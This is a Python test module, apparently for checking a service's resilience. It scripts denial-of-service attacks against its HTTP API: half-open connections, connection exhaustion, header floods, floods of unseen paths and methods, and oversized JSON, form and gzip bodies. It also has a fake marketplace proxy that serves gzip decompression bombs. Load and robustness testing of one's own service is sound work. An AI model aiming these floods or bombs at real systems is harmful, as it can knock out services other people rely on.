"""Attacks on a service that runs: on its API from one address, and by the marketplace's answers.

Each attack is a step that can be made again and again; `benchmarks/attacks.py` measures a crawl beside them.
"""

from __future__ import annotations

import asyncio
import gzip
import io
import re
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import asynccontextmanager, suppress
from functools import cache
from typing import TypeAlias
from urllib.parse import urlsplit

Attack: TypeAlias = "Callable[[Attacker], Coroutine[None, None, None]]"

#: Bytes that a bomb has when it is unpacked.
UNPACKED = 100_000_000


class Attacker:
    """Who knows an address and holds what was opened there."""

    def __init__(self, address: str) -> None:
        parts = urlsplit(address)
        self._host, self._port = parts.hostname or "", parts.port or 80
        self._held: list[asyncio.StreamWriter] = []
        self.sent = 0

    async def say(self, data: bytes, *, hold: bool = False) -> bytes:
        """Send bytes on a new connection; return the first line of the answer, or nothing. `hold`: stay, and wait for
        none."""
        self.sent += 1
        try:
            reader, writer = await asyncio.open_connection(self._host, self._port)
        except OSError:
            return b""
        try:
            writer.write(data)
            if hold:
                self._held.append(writer)
                return b""
            await writer.drain()
            return await reader.readline()
        except OSError:
            return b""
        finally:
            if not hold:
                await _closed(writer)

    async def health(self) -> str:
        """Return what health answers. Others open connections too, and the oldest of the reserve is closed for a new
        one: a monitor asks again, a few times."""
        request = b"GET /actuator/health/liveness HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        for _ in range(5):
            if line := await self.say(request):
                return line.decode().strip()
        return "no answer"

    async def leave(self) -> None:
        for writer in self._held:
            await _closed(writer)
        self._held.clear()


async def _closed(writer: asyncio.StreamWriter) -> None:
    writer.close()
    with suppress(OSError):
        await writer.wait_closed()


def _request(path: str, body: bytes = b"", *lines: str, method: str = "POST") -> bytes:
    head = [f"{method} {path} HTTP/1.1", "Host: x", "Connection: close", f"Content-Length: {len(body)}", *lines]
    return "\r\n".join([*head, "", ""]).encode() + body


async def half_open(attacker: Attacker) -> None:
    """Fifty heads, and fifty bodies, that never end."""
    begun = (b"GET /api/v1/sellers HTTP/1.1\r\nHost: x\r\nx: ", _request("/api/v1/auth/login", b"{" * 10)[:-5])
    for data in begun * 50:
        await attacker.say(data, hold=True)


async def five_hundred_connections(attacker: Attacker) -> None:
    """Connections that say nothing."""
    for _ in range(500):
        await attacker.say(b"", hold=True)


async def flood_headers(attacker: Attacker) -> None:
    """Heads of a megabyte, in one field and in many thousand."""
    for fields in (b"x: " + b"a" * 1_000_000, b"".join(b"x%d: y\r\n" % number for number in range(80_000))):
        for _ in range(2):
            await attacker.say(b"GET / HTTP/1.1\r\nHost: x\r\n" + fields + b"\r\n\r\n")


async def flood_labels(attacker: Attacker) -> None:
    """A hundred paths that were never asked before, long ones, by methods that do not exist."""
    for number in range(attacker.sent, attacker.sent + 100):
        path = f"/{('static', 'api/v1/sellers', 'x')[number % 3]}/{number}{'x' * 1_000}"
        await attacker.say(_request(path, method=f"M{number}" if number % 5 == 0 else "GET"))


async def flood_json(attacker: Attacker) -> None:
    """Bodies as large as may be sent without a credential: many names, deep nests, forms, gzip."""
    most = 60_000
    names = b"{" + b",".join(b'"%x":0' % number for number in range(most // 9)) + b"}"
    json_kind = "Content-Type: application/json"
    for body in (names, b"[" * most, b'{"a":' * (most // 5), b'"' + b"\\u0000" * (most // 7) + b'"', b"9" * most):
        await attacker.say(_request("/api/v1/auth/login", body, json_kind))
    form = b"&".join([b"a=b"] * (most // 4))
    await attacker.say(_request("/login", form, "Content-Type: application/x-www-form-urlencoded"))
    await attacker.say(_request("/api/v1/auth/login", _packed(), json_kind, "Content-Encoding: gzip"))


@cache
def _packed() -> bytes:
    return gzip.compress(b'"' + b"x" * 10_000_000 + b'"')


ATTACKS: dict[str, Attack] = {
    "half-open connections": half_open,
    "500 connections": five_hundred_connections,
    "header floods": flood_headers,
    "label floods": flood_labels,
    "JSON floods": flood_json,
}


class BombingMarketplace:
    """A marketplace in front of another one: it answers every tenth product's detail with a bomb while `is_bombing`,
    and passes on the rest."""

    def __init__(self, behind: str) -> None:
        parts = urlsplit(behind)
        self._behind = parts.hostname or "", parts.port or 80
        self.is_bombing = True
        #: Details that were bombs.
        self.bombed: set[bytes] = set()

    @asynccontextmanager
    async def open(self) -> AsyncIterator[str]:
        server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        try:
            yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        finally:
            server.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        there: asyncio.StreamWriter | None = None
        try:
            back, there = await asyncio.open_connection(*self._behind)
            while True:
                request = await reader.readuntil(b"\r\n\r\n")
                found = re.match(rb"GET \S*/item/([0-9]+0)/", request)
                if found and self.is_bombing:
                    self.bombed.add(found[1])
                    writer.write(_bomb())
                else:
                    there.write(request)
                    writer.write(await _answer(back))
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError, asyncio.CancelledError):
            pass
        finally:
            await _closed(writer)
            if there is not None:
                await _closed(there)


async def _answer(reader: asyncio.StreamReader) -> bytes:
    """Read one answer of the simulator, which states each length."""
    head = await reader.readuntil(b"\r\n\r\n")
    length = re.search(rb"(?i)content-length: *([0-9]+)", head)
    return head + (await reader.readexactly(int(length[1])) if length else b"")


@cache
def _bomb() -> bytes:
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb", mtime=0) as writing:
        for _ in range(UNPACKED // 1_000_000):
            writing.write(bytes(1_000_000))
    body = packed.getvalue()
    return b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: %d\r\n\r\n" % len(body) + body
